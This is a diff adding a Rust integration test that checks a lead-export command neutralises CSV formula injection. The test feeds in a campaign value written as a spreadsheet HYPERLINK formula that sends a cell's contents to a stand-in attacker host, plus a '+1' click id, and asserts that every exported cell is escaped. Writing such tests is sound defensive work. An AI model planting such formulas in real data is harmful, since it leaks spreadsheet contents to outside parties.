@@ -171,3 +171,29 @@ fn nudge_chat_shows_the_matched_intent_and_what_was_noted() {
     drop(stdin);
     let _ = child.wait();
 }
+
+#[tokio::test]
+async fn a_campaign_written_as_a_formula_is_exported_as_text() {
+    let dir = tempfile::tempdir().expect("dir");
+    let data = dir.path().join("data");
+    let mut server = crate::helpers::TestServer::start_on(&data, std::path::Path::new("intents"), &[]);
+    let mut socket = server.connect().await;
+    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";
+    let mut click_ids = std::collections::BTreeMap::new();
+    click_ids.insert("@gclid".to_string(), "+1".to_string());
+    let hello = nudge::protocol::Hello { campaign: Some(formula.into()), click_ids, ..Default::default() };
+    crate::helpers::hello(&mut socket, hello).await;
+    drop(socket);
+    server.kill();
+    let (code, csv, err) = crate::helpers::run_nudge(&["export", "leads", "--data", data.to_str().expect("utf-8")]);
+    assert_eq!(code, 0, "{err}");
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let headers = rows.headers().expect("header").clone();
+    let row = rows.records().next().expect("one lead").expect("row");
+    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect(name).to_string();
+    assert_eq!(cell("campaign"), format!("'{formula}"));
+    assert!(!cell("source").starts_with(['=', '+', '-', '@']), "{}", cell("source"));
+    for cell in row.iter() {
+        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?} would run as a formula");
+    }
+}
